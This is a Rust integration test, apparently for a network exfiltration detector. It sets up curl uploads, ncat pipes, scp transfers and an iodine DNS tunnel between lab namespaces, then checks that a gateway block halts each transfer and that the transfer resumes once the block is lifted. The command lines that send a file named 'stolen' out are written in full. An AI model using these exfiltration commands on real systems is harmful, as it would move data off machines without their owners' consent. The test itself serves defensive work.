//! Programs that people use, stopped and let go again: what arrives says so.

use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use detector_tests::watch::{HOME, START, Watch};
use detector_tests::{Background, Namespace, Scratch, Topology, poll_until};

use crate::ssh::Server;
use crate::{V4, V6};

/// Where a program's bytes arrive: the size of a file, or what a device has received.
enum Arrival {
    File(PathBuf),
    Device(&'static str),
}

impl Arrival {
    fn bytes(&self, server: &Namespace) -> u64 {
        match self {
            Self::File(path) => fs::metadata(path).map_or(0, |file| file.len()),
            Self::Device(device) => {
                let path = format!("/sys/class/net/{device}/statistics/rx_bytes");
                let text = server.run("cat", [&path]).unwrap_or_default();
                text.trim().parse().unwrap_or(0)
            }
        }
    }
}

struct Case {
    name: &'static str,
    target: String,
    arrival: Arrival,
    programs: Vec<Background>,
}

/// A query for the name servers of the tunnel's domain, and whether there is an answer.
const ASK: &str = r"
import socket, sys
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(1)
query = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01t\x07example\x00\x00\x02\x00\x01'
udp.sendto(query, (sys.argv[1], 53))
assert udp.recv(512)[:2] == query[:2]
";

/// A shell's command line in the background.
fn shell(namespace: &Namespace, line: &str) -> Background {
    namespace.spawn("sh", ["-c", &format!("exec {line}")]).unwrap()
}

fn uploads(topology: &Topology, ssh: &Server, folder: &Scratch) -> Vec<Case> {
    let (client, server) = (&topology.client, topology.server());
    let stolen = folder.write("stolen", vec![0x5a; 50_000_000]).unwrap();
    let stolen = stolen.display();
    let options = ssh.options().join(" ");
    let mut cases = Vec::new();
    for (name, address, number) in [("4", V4, 0), ("6", V6, 1)] {
        let bracketed =
            if address.contains(':') { format!("[{address}]") } else { address.to_owned() };
        let file = |what: &str| folder.join(&format!("{what}-{name}"));
        let taker = |port: u32, file: &PathBuf| {
            shell(server, &format!("ncat -lk {port} --recv-only > {}", file.display()))
        };
        let (by_curl, by_ncat, by_scp) = (file("curl"), file("ncat"), file("scp"));
        let (curl_port, ncat_port) = (9_100 + number, 9_200 + number);
        let takers = [taker(curl_port, &by_curl), taker(ncat_port, &by_ncat)];
        std::thread::sleep(Duration::from_millis(500));
        let [curl_taker, ncat_taker] = takers;
        let url = format!("http://{bracketed}:{curl_port}/x");
        let curl =
            shell(client, &format!("curl -s -g -H Expect: --limit-rate 50k -T {stolen} {url}"));
        cases.push(Case {
            name: "curl",
            target: format!("service {bracketed}:{curl_port}"),
            arrival: Arrival::File(by_curl),
            programs: vec![curl_taker, curl],
        });
        let drip = "while :; do head -c 2000 /dev/zero; sleep 0.05; done";
        let ncat = shell(client, &format!("sh -c '({drip}) | ncat {address} {ncat_port}'"));
        cases.push(Case {
            name: "ncat",
            target: format!("service {bracketed}:{ncat_port}"),
            arrival: Arrival::File(by_ncat),
            programs: vec![ncat_taker, ncat],
        });
        let to = format!("root@{bracketed}:{}", by_scp.display());
        let scp = shell(client, &format!("scp -q -l 400 {options} {stolen} {to}"));
        cases.push(Case {
            name: "scp",
            target: format!("service {bracketed}:22"),
            arrival: Arrival::File(by_scp),
            programs: vec![scp],
        });
    }
    let tunnel = [
        shell(server, "iodined -f -c -P pass 10.99.0.1 t.example"),
        shell(client, &format!("iodine -f -r -P pass -T TXT {V4} t.example")),
    ];
    poll_until(START, || client.run("ping", ["-c", "1", "-W", "1", "10.99.0.1"]).ok()).unwrap();
    let ping = shell(client, "ping -q -i 0.1 -s 300 10.99.0.1");
    cases.push(Case {
        name: "iodine",
        target: format!("service {V4}:53"),
        arrival: Arrival::Device("dns0"),
        programs: tunnel.into_iter().chain([ping]).collect(),
    });
    cases
}

#[test]
#[ignore = "needs root: run cargo xtask test"]
fn the_programs_of_thieves_are_stopped() {
    let topology = Topology::simple().unwrap();
    let folder = Scratch::new("programs").unwrap();
    let ssh = Server::start(topology.server());
    let (client, gateway) = (&topology.client, &topology.gateway);
    let watch = Watch::start(gateway, &[Topology::GATEWAY_INNER], &[], HOME);
    let cases = uploads(&topology, &ssh, &folder);
    let server = topology.server();
    let said =
        |case: &Case| case.programs.iter().map(Background::output).collect::<Vec<_>>().join("\n");
    for case in &cases {
        let before = case.arrival.bytes(server);
        poll_until(START, || (case.arrival.bytes(server) > before).then_some(())).unwrap_or_else(
            |error| panic!("{} {}: {error:#}: {}", case.name, case.target, said(case)),
        );
    }
    for case in &cases {
        let what = format!("{} to {}", case.name, case.target);
        watch.ask(gateway, &["blocks", "add", &case.target, "--ttl", "1m"]);
        // What is in flight, and in the receiving program's own buffers, still arrives.
        std::thread::sleep(Duration::from_millis(500));
        let stood = case.arrival.bytes(server);
        std::thread::sleep(Duration::from_secs(1));
        assert_eq!(case.arrival.bytes(server), stood, "{what} goes on");
        watch.ask(gateway, &["blocks", "remove", &case.target]);
    }
    // A tunnel that lost packets may never find its place again: its server is asked anew.
    let asked = || client.run("python3", ["-c", ASK, V4]).ok();
    poll_until(START, asked).unwrap();
    // TCP asks again after the pauses that it has doubled.
    for case in cases.iter().filter(|case| case.name != "iodine") {
        let before = case.arrival.bytes(server);
        poll_until(START, || (case.arrival.bytes(server) > before).then_some(())).unwrap_or_else(
            |error| panic!("{} is not let go: {error:#}: {}", case.name, said(case)),
        );
    }
    watch.stop().assert_all_accounted();
}
